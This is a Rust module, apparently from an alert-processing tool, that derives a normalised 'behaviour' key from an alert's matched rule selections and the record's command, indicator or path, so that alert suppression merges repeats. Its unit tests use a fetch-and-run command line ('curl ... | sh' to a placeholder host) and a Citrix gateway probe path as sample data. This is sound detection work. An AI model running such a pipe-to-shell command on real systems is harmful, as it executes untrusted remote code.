//! What an alert is about, beyond where it happened: the rule's selections that matched and a
//! normalised form of the command, indicator or path of the triggering record. Suppression keys on it
//! (`suppress.by: [..., behaviour]`), so a repeat of the same step is folded into one alert while a new
//! command, a new indicator or a new stage always raises its own.

use serde::Serialize;

use crate::doc::{Doc, Leaf};

/// `suppress.by` token for the whole behaviour (selections and subject).
pub const BEHAVIOUR: &str = "behaviour";
/// `suppress.by` token for the matched selections alone.
pub const SELECTION: &str = "selection";

/// Longest subject kept; longer ones are cut (on a character boundary).
const MAX_SUBJECT: usize = 512;

/// The fields that say what a record did, most specific first; the first present is the subject.
const SUBJECT_FIELDS: [&str; 5] = [
    "process.command_line",
    "citrix_adc.httperror.message",
    "threat.enrichments.matched.atomic",
    "gatewatch.url.normalized_path",
    "url.original",
];

/// `gatewatch.behaviour` of an alert.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Behaviour {
    /// The rule's named selections that held (detection rules), in the rule's order.
    pub selections: Vec<String>,
    /// The normalised command, indicator, path or URL (detection rules), or a correlation's group.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub subject: Option<String>,
}

impl Behaviour {
    /// A detection rule's match: the selections that held and the record's subject.
    pub fn of_match(selections: Vec<String>, doc: &Doc<'_>) -> Behaviour {
        let subject = SUBJECT_FIELDS.iter().find_map(|path| {
            let mut values: Vec<String> = doc
                .lookup(path)
                .into_iter()
                .filter_map(|v| match v {
                    Leaf::Str(s) => Some(normalise(s)),
                    Leaf::Int(_) | Leaf::UInt(_) | Leaf::Float(_) => v.key_text(),
                    _ => None,
                })
                .filter(|s| !s.is_empty())
                .collect();
            values.sort();
            values.dedup();
            (!values.is_empty()).then(|| values.join(" "))
        });
        Behaviour { selections, subject }
    }

    /// A correlation's alert: its group is what it is about.
    pub fn of_group(group: &[(String, String)]) -> Behaviour {
        let subject = group.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join(" ");
        Behaviour { selections: Vec::new(), subject: (!subject.is_empty()).then_some(subject) }
    }

    /// The suppression key part for [`BEHAVIOUR`].
    pub fn key(&self) -> String {
        format!("{}|{}", self.selections.join(","), self.subject.as_deref().unwrap_or(""))
    }
}

/// Lower case, whitespace runs as one space, trimmed, at most [`MAX_SUBJECT`] bytes: the same step
/// written with other spacing or case is the same behaviour.
pub fn normalise(s: &str) -> String {
    let mut out = String::with_capacity(s.len().min(MAX_SUBJECT));
    for word in s.split_whitespace() {
        if !out.is_empty() {
            out.push(' ');
        }
        for c in word.chars() {
            if out.len() + c.len_utf8() > MAX_SUBJECT {
                return out;
            }
            out.extend(c.to_lowercase());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{json, Value as Json};

    fn doc(v: Json) -> Doc<'static> {
        Doc::from_json(v.as_object().unwrap().clone())
    }

    #[test]
    fn command_is_the_subject_and_spacing_or_case_do_not_matter() {
        let a = Behaviour::of_match(
            vec!["as_nobody".into()],
            &doc(json!({"process": {"command_line": "curl  http://x/ci.sh | SH"}, "url": {"original": "/a"}})),
        );
        let b = Behaviour::of_match(
            vec!["as_nobody".into()],
            &doc(json!({"process": {"command_line": "curl http://x/ci.sh |   sh "}})),
        );
        assert_eq!(a.subject.as_deref(), Some("curl http://x/ci.sh | sh"));
        assert_eq!(a.key(), b.key());
        let other = Behaviour::of_match(vec!["as_nobody".into()], &doc(json!({"process": {"command_line": "id"}})));
        assert_ne!(a.key(), other.key());
    }

    #[test]
    fn indicator_beats_path_and_long_subjects_are_cut() {
        let b = Behaviour::of_match(
            vec![],
            &doc(json!({
                "threat": {"enrichments": [{"matched": {"atomic": "198.51.100.7"}}, {"matched": {"atomic": "198.51.100.7"}}]},
                "gatewatch": {"url": {"normalized_path": "/vpns/cfg/smb.conf"}}
            })),
        );
        assert_eq!(b.subject.as_deref(), Some("198.51.100.7"));
        let long = "é".repeat(400);
        assert!(normalise(&long).len() <= MAX_SUBJECT);
        assert!(Behaviour::of_match(vec![], &doc(json!({"user": {"name": "x"}}))).subject.is_none());
    }
}
